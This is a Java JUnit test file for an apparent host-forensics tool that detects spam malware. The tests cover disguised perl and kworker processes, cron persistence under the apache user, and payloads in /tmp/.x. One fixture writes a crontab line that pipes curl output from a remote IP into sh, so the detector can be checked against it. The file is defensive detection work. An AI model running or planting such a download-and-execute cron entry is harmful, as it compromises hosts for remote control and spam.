package dev.spamtrace.host;

import static org.assertj.core.api.Assertions.assertThat;

import dev.spamtrace.config.Config;
import dev.spamtrace.hostroot.HostRoot;
import dev.spamtrace.incident.Artifacts;
import dev.spamtrace.incident.Finding;
import dev.spamtrace.incident.FindingKind;
import dev.spamtrace.incident.InspectionContext;
import dev.spamtrace.incident.InspectionResult;
import dev.spamtrace.incident.Severity;
import dev.spamtrace.incident.Text;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class HostInspectorTest {
  @TempDir Path tmp;

  static InspectionResult inspect(Path root, InspectionContext.Options options) {
    return new HostInspector().inspect(new InspectionContext(HostRoot.of(root), Config.defaults(), Clock.systemUTC(), options,
        new Artifacts(), List.of()));
  }

  static Finding find(InspectionResult r, FindingKind kind, String subject) {
    return r.findings().stream().filter(f -> f.kind() == kind && f.subject().equals(subject)).findFirst()
        .orElseThrow(() -> new AssertionError("no " + kind.id() + " " + subject + " in " + r.findings().stream().map(Finding::subject).toList()));
  }

  static List<String> en(Finding f) {
    return f.reasons().stream().map(Text::en).toList();
  }

  @Test
  void theDisguisedPerlItsCronAndItsPayloadAreFoundAndLinked() throws Exception {
    Path root = HostFixture.build(Files.createDirectories(tmp.resolve("root")));
    InspectionResult r = inspect(root, InspectionContext.Options.once());

    Finding perl = find(r, FindingKind.SUSPICIOUS_PROCESS, "pid:21473");
    assertThat(perl.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(en(perl)).contains(
        "calls itself bash but the program is /usr/bin/perl",
        "it works in /tmp/.x",
        "apache runs perl outside the web server's workers",
        "it holds 2 SMTP connection(s) (203.0.113.9:25, 198.51.100.9:587) and is not the MTA",
        "it holds 3 UDP sockets (DNS look-ups of its own)");
    assertThat(perl.evidence()).containsEntry("exe", "/usr/bin/perl").containsEntry("user", "apache")
        .containsEntry("cron", List.of("cron:/var/spool/cron/apache:1"));
    assertThat(String.valueOf(perl.evidence().get("payloads"))).contains("/tmp/.x/run.sh", "/tmp/.x/bash");

    Finding fakeKworker = find(r, FindingKind.SUSPICIOUS_PROCESS, "pid:21500");
    assertThat(en(fakeKworker)).contains("calls itself kworker but the program is /tmp/.x/k", "its program /tmp/.x/k was deleted after it started",
        "its program /tmp/.x/k is in a temporary place");

    // Told apart: the web server's PHP workers (even submitting to the local MTA), the MTA by its
    // exe, root, kernel threads, zombies.
    assertThat(r.findings()).filteredOn(f -> f.kind() == FindingKind.SUSPICIOUS_PROCESS).extracting(Finding::subject)
        .doesNotContain("pid:1", "pid:2", "pid:9", "pid:800", "pid:810", "pid:820", "pid:900", "pid:950", "pid:21501");
    // A customer's own php cron job in its site: reported for a person, never enough to be stopped.
    Finding wpCron = find(r, FindingKind.SUSPICIOUS_PROCESS, "pid:30000");
    assertThat(wpCron.severity()).isLessThan(Severity.HIGH);

    Finding cron = find(r, FindingKind.CRON_PERSISTENCE, "cron:/var/spool/cron/apache:1");
    assertThat(cron.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(en(cron)).contains("apache's entry runs /tmp/.x/run.sh from a temporary place", "it runs /tmp/.x/run.sh from a hidden folder",
        "it runs every 10 min");
    assertThat(cron.evidence()).containsEntry("user", "apache").containsEntry("removable", true)
        .containsEntry("text", "*/10 * * * * /tmp/.x/run.sh").containsEntry("processes", List.of(21473, 21500))
        .containsEntry("payloads", List.of("/tmp/.x/bash", "/tmp/.x/run.sh"));
    Finding shopCron = find(r, FindingKind.CRON_PERSISTENCE, "cron:/var/spool/cron/shopuser:2");
    assertThat(shopCron.severity()).isEqualTo(Severity.LOW);
    assertThat(r.findings()).noneMatch(f -> f.subject().startsWith("cron:/etc/crontab"));

    Finding run = find(r, FindingKind.TMP_PAYLOAD, "/tmp/.x/run.sh");
    assertThat(en(run)).contains("a script owned by apache in a temporary place", "it is executable (mode 0755)", "it is in a hidden folder");
    assertThat(run.evidence()).containsEntry("path", "/tmp/.x/run.sh").containsEntry("cron", List.of("cron:/var/spool/cron/apache:1"));
    Finding bash = find(r, FindingKind.TMP_PAYLOAD, "/tmp/.x/bash");
    assertThat(en(bash)).contains("it contains network code", "it contains code that sends mail");
    assertThat(r.findings()).extracting(Finding::subject).doesNotContain("/tmp/sess_0123abcd", "/tmp/root-tool.sh");
    assertThat(r.gaps()).isEmpty();
  }

  @Test
  void aProcessThatKeepsComingBackIsTiedToTheCronEntryWithItsPeriod() throws Exception {
    Path root = HostFixture.build(Files.createDirectories(tmp.resolve("root")));
    // Between the two looks the perl exits and cron starts a new one, 600 s (60000 ticks) later.
    Thread relaunch = new Thread(() -> {
      try {
        Thread.sleep(300);
        Path proc = root.resolve("proc");
        new ProcFixture(proc).process(21999, 1, "bash", 'S', 4194560, 150000, HostFixture.APACHE, List.of("bash"), "/usr/bin/perl", "/tmp/.x");
        try (var s = Files.walk(proc.resolve("21473"))) {
          s.sorted(java.util.Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
        }
      } catch (Exception e) {
        throw new RuntimeException(e);
      }
    });
    relaunch.start();
    InspectionResult r = inspect(root, new InspectionContext.Options(2, Duration.ofMillis(900)));
    relaunch.join();

    Finding perl = find(r, FindingKind.SUSPICIOUS_PROCESS, "pid:21999");
    assertThat(en(perl)).contains("it is started anew every 10 min");
    @SuppressWarnings("unchecked")
    Map<String, Object> respawn = (Map<String, Object>) perl.evidence().get("respawn");
    assertThat(respawn).containsEntry("period-seconds", 600L).containsEntry("pids", List.of(21473, 21999))
        .containsEntry("cron", "cron:/var/spool/cron/apache:1");
    Finding cron = find(r, FindingKind.CRON_PERSISTENCE, "cron:/var/spool/cron/apache:1");
    assertThat(en(cron)).contains("processes it starts came back at its period: 2");
  }

  @Test
  void aDiskCopyWithoutProcStillGetsItsCrontabsRead() throws Exception {
    Path root = Files.createDirectories(tmp.resolve("copy"));
    HostFixture.write(root, "/etc/passwd", "www-data:x:33:33::/var/www:/usr/sbin/nologin\n");
    HostFixture.write(root, "/var/spool/cron/crontabs/www-data", "* * * * * curl -s http://203.0.113.45/x | sh\n");
    InspectionResult r = inspect(root, InspectionContext.Options.once());
    Finding cron = find(r, FindingKind.CRON_PERSISTENCE, "cron:/var/spool/cron/crontabs/www-data:1");
    assertThat(en(cron)).contains("it downloads code and runs it: curl -s http://203.0.113.45/x | sh");
    assertThat(r.covered()).anyMatch(c -> c.what().en().startsWith("no processes under"));
    assertThat(r.gaps()).isEmpty();
  }

  @Test
  void processesWhoseLinksCannotBeReadAreAGapNotAVerdict() throws Exception {
    Path root = Files.createDirectories(tmp.resolve("partial"));
    new ProcFixture(root.resolve("proc"))
        .process(4000, 1, "bash", 'S', 4194560, 10, 33, List.of("bash"), null, null)
        .writeNet();
    InspectionResult r = inspect(root, InspectionContext.Options.once());
    assertThat(r.gaps()).extracting(g -> g.reason().en()).contains(
        "cwd of 1 process(es) could not be read (not root, or another namespace); they were judged without it",
        "exe of 1 process(es) could not be read (not root, or another namespace); they were judged without it");
    assertThat(r.gaps()).extracting(g -> g.reason().ja()).anyMatch(j -> j.startsWith("1 個のプロセスの exe"));
    assertThat(r.findings()).isEmpty();
  }

  /** Other tools' scratch folders (root's, mode 0700) are skipped; a web user's folder and a world-writable one are not. */
  @Test
  void foldersWebUsersCannotWriteAreSkippedSoTheLimitIsSpentWherePayloadsCanBe() throws Exception {
    Path root = HostFixture.build(Files.createDirectories(tmp.resolve("root")));
    Path scratch = Files.createDirectories(root.resolve("tmp/junit123"));
    Files.setPosixFilePermissions(scratch, java.nio.file.attribute.PosixFilePermissions.fromString("rwx------"));
    for (int i = 0; i < 30; i++) {
      Files.writeString(scratch.resolve("f" + i), "x");
    }
    Path shared = Files.createDirectories(root.resolve("tmp/shared"));
    Files.setPosixFilePermissions(shared, java.nio.file.attribute.PosixFilePermissions.fromString("rwxrwxrwx"));
    Path dropped = Files.writeString(shared.resolve("m.pl"), "#!/usr/bin/perl\nuse Net::SMTP;\n");
    Files.setAttribute(dropped, "unix:uid", HostFixture.APACHE);
    Config small = Config.defaults().with(java.util.Map.of("host", java.util.Map.of("tmp-scan-max-files", 10)));
    InspectionResult r = new HostInspector().inspect(new InspectionContext(HostRoot.of(root), small, Clock.systemUTC(),
        InspectionContext.Options.once(), new Artifacts(), List.of()));
    assertThat(r.findings()).extracting(Finding::subject).contains("/tmp/.x/run.sh", "/tmp/shared/m.pl");
    assertThat(r.gaps()).isEmpty();
  }
}
